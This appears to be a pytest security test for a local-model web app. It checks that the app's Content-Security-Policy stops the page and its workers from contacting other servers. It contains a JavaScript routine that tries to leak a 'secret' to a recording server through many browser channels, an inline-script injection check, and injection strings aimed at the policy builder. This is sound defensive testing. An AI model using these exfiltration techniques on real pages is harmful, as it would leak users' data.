"""The origin enforces "nothing leaves": the page and every worker it starts (the model
worker, onnxruntime's thread workers, the agent worker with Pyodide, the service worker)
are served with a Content-Security-Policy that allows connections to this origin only,
online and from the service worker's cache. The app still does everything under it: the
real tiny model loads on several WASM threads, Pyodide starts, an answer streams.

A second local server that records every request (`recording_server`) is the target of
every escape attempt: from the page, and from each worker with code evaluated inside it
(the simulation of a compromised worker)."""

import pytest

from botpsy_web import REPO_ROOT
from botpsy_web.app_page import ask_and_stop, open_app_with_model
from botpsy_web.content_policy import APP_DIRECTIVES, app_policy, fetch_frame_policy


MODEL = "tiny-qwen3.5"
WORKER_SCRIPTS = ("/web/runtime/model-worker.js", "/web/agent/agent-worker.js",
                  "/node_modules/onnxruntime-web/dist/ort-wasm-simd-threaded.mjs", "/web/sw.js")

# Every way a page or worker script can send bytes out; each resolves to a short outcome.
ESCAPES = """async (target) => {
    const outcomes = {};
    const attempt = async (name, action) => {
        try { outcomes[name] = "sent: " + String(await action()).slice(0, 40); }
        catch (error) { outcomes[name] = "blocked: " + (error?.message || error); }
    };
    await attempt("fetch", () => fetch(target + "/fetch?secret=notes", {method: "POST", body: "notes"}).then((r) => r.status));
    await attempt("fetch no-cors", () => fetch(target + "/no-cors?secret=notes", {mode: "no-cors"}).then((r) => r.type));
    await attempt("XMLHttpRequest", () => new Promise((resolve, reject) => {
        const request = new XMLHttpRequest();
        request.open("GET", target + "/xhr?secret=notes");
        request.onload = () => resolve(request.status);
        request.onerror = () => reject(new Error("XHR error"));
        request.send();
    }));
    await attempt("WebSocket", () => new Promise((resolve, reject) => {
        const socket = new WebSocket(target.replace("http", "ws") + "/ws?secret=notes");
        socket.onopen = () => resolve("open");
        socket.onerror = () => reject(new Error("WebSocket error"));
    }));
    await attempt("EventSource", () => new Promise((resolve, reject) => {
        const source = new EventSource(target + "/events?secret=notes");
        source.onopen = () => resolve("open");
        source.onerror = () => { source.close(); reject(new Error("EventSource error")); };
    }));
    await attempt("import()", () => import(target + "/import.js?secret=notes"));
    await attempt("FontFace", () => new FontFace("leak", `url(${target}/font?secret=notes)`).load());
    if (typeof document !== "undefined") {
        await attempt("image", () => new Promise((resolve, reject) => {
            const image = new Image();
            image.onload = () => resolve("loaded");
            image.onerror = () => reject(new Error("image error"));
            image.src = target + "/image?secret=notes";
        }));
        // true only means "queued": whether it left is for the recording server to say.
        outcomes.sendBeacon = navigator.sendBeacon(target + "/beacon", "notes") ? "queued" : "refused";
    }
    await attempt("nested worker", () => new Promise((resolve, reject) => {
        const source = `fetch(${JSON.stringify(target + "/nested?secret=notes")}).then(() => postMessage("sent"), (e) => postMessage("blocked"))`;
        const worker = new Worker(URL.createObjectURL(new Blob([source], {type: "text/javascript"})));
        worker.onmessage = ({data}) => (data === "sent" ? resolve(data) : reject(new Error(data)));
        worker.onerror = () => reject(new Error("worker error"));
    }));
    return outcomes;
}"""

INLINE_SCRIPT_RUNS = """() => {
    const script = document.createElement("script");
    script.textContent = "window.injectedRan = true";
    document.head.append(script);
    return window.injectedRan === true;
}"""


def scriptable_workers(page):
    """The model and agent workers. onnxruntime's thread workers wait inside WebAssembly
    (Atomics.wait) and never run evaluated code; their script's policy is checked instead."""
    return [worker for worker in page.workers if worker.url.endswith(("/model-worker.js", "/agent-worker.js"))]


def path_of(url, base):
    return url[len(base):].split("?")[0] if url.startswith(base) else None


@pytest.fixture(scope="module")
def app(browser, open_guarded_page, app_server, exported_model, agent_bundle):
    """The app with the real tiny model loaded on WASM threads; every response it got."""
    exported_model(MODEL)
    context, page, guard = open_guarded_page(browser, app_server)
    page.set_default_timeout(180_000)
    responses, violations = [], []
    context.on("response", lambda response: responses.append(response))
    context.on("console", lambda message: violations.append(message.text)
               if "Content Security Policy" in message.text else None)
    open_app_with_model(page, app_server, MODEL, backend="wasm")
    page.responses, page.violations, page.guard = responses, violations, guard
    yield page
    context.close()
    guard.assert_clean()


def test_the_app_works_under_its_policy(app):
    page = app
    assert page.evaluate("crossOriginIsolated") and "threads" in page.locator("#backend-badge").inner_text()
    ask_and_stop(page)
    assert page.violations == [], page.violations[:5]
    # An injected inline script is what an attacker would reach for first: it does not run.
    assert page.evaluate(INLINE_SCRIPT_RUNS) is False


def test_the_page_and_every_worker_script_carry_the_policy(app, app_server):
    page = app
    policies = {path_of(r.url, app_server): r.headers.get("content-security-policy") for r in page.responses
                if path_of(r.url, app_server)}
    assert policies["/"] == app_policy(REPO_ROOT / "index.html")
    for script in WORKER_SCRIPTS:
        assert script in policies, f"{script} was not loaded"
        assert "connect-src 'self' data: blob:" in policies[script], (script, policies[script])
        assert "'unsafe-eval'" not in policies[script] and "'wasm-unsafe-eval'" in policies[script]
    workers = {path_of(worker.url, app_server) for worker in page.workers}
    assert {"/web/runtime/model-worker.js", "/web/agent/agent-worker.js"} <= workers
    missing = [path for path, policy in policies.items() if not policy]
    assert missing == [], f"responses without a policy: {missing[:10]}"


def test_nothing_reaches_another_server_from_the_page_or_any_worker(app, recording_server):
    page = app
    page.guard.allow(recording_server.url)  # so that a hit fails on the hits, with its details
    outcomes = {"page": page.evaluate(ESCAPES, recording_server.url)}
    for worker in scriptable_workers(page):
        outcomes[worker.url.rsplit("/", 1)[-1]] = worker.evaluate(ESCAPES, recording_server.url)
    assert set(outcomes) == {"page", "model-worker.js", "agent-worker.js"}, outcomes.keys()
    page.wait_for_timeout(1000)
    assert recording_server.hits == [], recording_server.hits
    for where, results in outcomes.items():
        sent = {name: outcome for name, outcome in results.items() if outcome.startswith("sent")}
        assert sent == {}, (where, sent)


def test_the_recording_server_does_get_requests_that_no_policy_stops(browser, open_guarded_page, app_server,
                                                                     recording_server):
    """The control case: the same attempts from a page without our policy do arrive."""
    context, page, guard = open_guarded_page(browser, app_server)
    guard.allow(recording_server.url)
    page.goto(f"{app_server}/tests/pages/foundation.html")
    page.evaluate("target => fetch(target + '/control?x=1').then((r) => r.status)", recording_server.url)
    context.close()
    assert [hit["path"] for hit in recording_server.hits] == ["/control?x=1"]


def test_service_worker_cached_responses_keep_the_policy(first_visit_offline_ready, app_server, recording_server):
    context, page, guard = first_visit_offline_ready(MODEL, timeout_ms=180_000)

    context.set_offline(True)
    responses = []
    context.on("response", lambda response: responses.append(response))
    page.reload()
    page.locator("#load-progress[data-state='ready']").wait_for()
    from_cache = {path_of(r.url, app_server): r.headers.get("content-security-policy") for r in responses
                  if r.from_service_worker and path_of(r.url, app_server)}
    for path in ("/", "/web/runtime/model-worker.js", "/web/agent/agent-worker.js"):
        assert path in from_cache, f"{path} did not come from the service worker: {sorted(from_cache)[:20]}"
        assert "connect-src 'self' data: blob:" in (from_cache[path] or ""), (path, from_cache[path])
    assert page.evaluate(INLINE_SCRIPT_RUNS) is False
    context.set_offline(False)
    guard.allow(recording_server.url)
    outcomes = [page.evaluate(ESCAPES, recording_server.url)]
    outcomes += [worker.evaluate(ESCAPES, recording_server.url) for worker in scriptable_workers(page)]
    page.wait_for_timeout(500)
    assert recording_server.hits == [], recording_server.hits
    context.close()
    guard.assert_clean()


def test_the_fetch_frame_policy_names_one_valid_origin_only():
    assert "connect-src https://example.org:8443;" in fetch_frame_policy("origin=https://example.org:8443")
    for bad in ("", "origin=https://a.example/path", "origin=*", "origin=https://a.example; script-src *",
                "origin=javascript:alert(1)", "origin=https://a.example&origin=https://b.example",
                "origin=http://a.example:99999"):
        with pytest.raises(ValueError, match="origin="):
            fetch_frame_policy(bad)
    assert APP_DIRECTIVES["connect-src"] == ["'self'", "data:", "blob:"]


def test_the_route_table_and_what_the_server_sends(server):
    import base64
    import hashlib
    import re
    import urllib.error
    import urllib.request

    harness = REPO_ROOT / "web" / "runtime" / "harness.html"
    inline = re.search(rb"<script[^>]*>(.*?)</script>", harness.read_bytes(), re.DOTALL).group(1)
    digest = base64.b64encode(hashlib.sha256(inline).digest()).decode()
    assert f"'sha256-{digest}'" in app_policy(harness)  # exactly our own inline block
    # index.html has no inline block: its one hash is run_python's sandbox frame's boot script
    # (the frame is built from local bytes and runs under this policy too, web/sandbox/sandbox-client.js).
    from botpsy_web.sandbox_policy import BOOT_HASH
    assert re.findall(r"'sha256-[^']+'", app_policy(REPO_ROOT / "index.html")) == [BOOT_HASH]

    def headers(path):
        try:
            return urllib.request.urlopen(server + path).headers
        except urllib.error.HTTPError as error:
            return error.headers
    assert headers("/web/sw.js")["Content-Security-Policy"] == app_policy(None)
    assert headers("/web/sw.js")["X-Content-Type-Options"] == "nosniff"
    assert headers("/no/such/file")["Content-Security-Policy"] == "default-src 'none'"
    assert headers("/models/index.json")["Content-Security-Policy"] == "default-src 'none'"
    assert "connect-src http://127.0.0.1:9" in headers("/web/fetch/frame.html?origin=http://127.0.0.1:9")[
        "Content-Security-Policy"]
    assert "frame-ancestors *" in headers("/web/widget/worker-frame.html")["Content-Security-Policy"]
    assert headers("/static/examples/shop.html")["Content-Security-Policy"] is None  # another site's page
    with pytest.raises(urllib.error.HTTPError, match="400"):
        urllib.request.urlopen(server + "/web/fetch/frame.html?origin=*")
